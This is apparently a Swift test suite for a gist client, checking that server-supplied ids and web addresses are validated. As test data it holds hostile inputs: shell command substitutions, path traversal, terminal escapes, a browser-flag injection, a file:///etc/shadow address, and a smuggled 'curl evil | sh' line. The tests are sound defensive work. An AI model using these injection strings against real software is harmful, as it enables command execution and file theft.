import Foundation
import GistValues
import System
import Testing

/// Issue 28, items 1 and 2: ids and web addresses from a server are checked where they
/// enter dehub, by both JSON readers: a gist whose id is no identifier is left out of a
/// list (and a single one refused), and an `html_url` that is no https page is dropped, so
/// nothing opens, copies or prints it. The browser opener checks again.
@Suite struct ServerValuesTests {
  static let hostileIDs = [
    "$(touch${IFS}PWNED)", "`id`", "../../user", "a b", "--help", "abc\u{1B}[2J", "",
    String(repeating: "a", count: 65),
  ]
  static let hostilePages = [
    "--gpu-launcher=touch /tmp/x", "file:///etc/shadow", "javascript:alert(1)",
    "https://gist.github.com/x\u{1B}]0;t\u{07}", "https://gist.github.com/x\ncurl evil | sh",
    "http://gist.github.com/x", "https://",
  ]

  /// `text` as a JSON string (quotes and escapes).
  static func quoted(_ text: String) -> String {
    var out = "\""
    for scalar in text.unicodeScalars {
      switch scalar {
      case "\"": out += "\\\""
      case "\\": out += "\\\\"
      case _ where scalar.value < 0x20:
        let hex = String(scalar.value, radix: 16)
        out += "\\u" + String(repeating: "0", count: 4 - hex.count) + hex
      default: out.unicodeScalars.append(scalar)
      }
    }
    return out + "\""
  }

  static func gistJSON(id: String, html: String) -> String {
    let (id, html) = (quoted(id), quoted(html))
    return #"{"id":\#(id),"html_url":\#(html),"files":{},"#
      + #""fork_of":{"id":\#(id)},"history":[{"version":\#(id)}]}"#
  }

  @Test func aListLeavesOutGistsWhoseIdIsNoIdentifier() throws {
    let elements =
      Self.hostileIDs.map { Self.gistJSON(id: $0, html: "https://gist.github.com/a") }
      + [Self.gistJSON(id: "aa11bb22", html: "https://gist.github.com/a")]
    let body = Data(("[" + elements.joined(separator: ",") + "]").utf8)
    let (gists, raw) = try Gist.list(in: body)
    #expect(gists.map(\.id) == ["aa11bb22"])
    #expect(Array(raw.keys) == ["aa11bb22"])
    #expect(try Gist.identities(in: body).map(\.id) == ["aa11bb22"])
    let decoded = try JSONDecoder().decode([Lenient<Gist>].self, from: body).compactMap(\.value)
    #expect(decoded.map(\.id) == ["aa11bb22"])
  }

  @Test func aSingleGistWithSuchAnIdIsRefused() {
    for id in Self.hostileIDs {
      let body = Data(Self.gistJSON(id: id, html: "https://gist.github.com/a").utf8)
      #expect(throws: GistError.self, "\(id)") { try Gist.whole(from: body) }
      #expect(throws: (any Error).self, "\(id)") { try JSONDecoder().decode(Gist.self, from: body) }
    }
  }

  @Test func aForkSourceOrRevisionWithSuchAnIdIsLeftOut() throws {
    let text = Self.gistJSON(id: "aa11bb22", html: "https://gist.github.com/a")
      .replacingOccurrences(of: #""fork_of":{"id":"aa11bb22"}"#, with: #""fork_of":{"id":"../x"}"#)
      .replacingOccurrences(of: #""version":"aa11bb22""#, with: #""version":"$(id)""#)
    let gist = try Gist.whole(from: Data(text.utf8))
    #expect(gist.forkOf == nil)
    #expect(gist.history?.isEmpty == true)
  }

  @Test func aWebAddressThatIsNoHttpsPageIsDropped() throws {
    for page in Self.hostilePages {
      let body = Data(Self.gistJSON(id: "aa11bb22", html: page).utf8)
      #expect(try Gist.whole(from: body).htmlURL == nil, "\(page.debugDescription)")
      #expect(try JSONDecoder().decode(Gist.self, from: body).htmlURL == nil)
      #expect(throws: GistError.self) {
        try WebBrowser.open(page, environment: ["BROWSER": "/bin/true"])
      }
    }
    let good = Data(Self.gistJSON(id: "aa11bb22", html: "https://gist.github.com/a/aa11bb22").utf8)
    #expect(try Gist.whole(from: good).htmlURL == "https://gist.github.com/a/aa11bb22")
  }
}
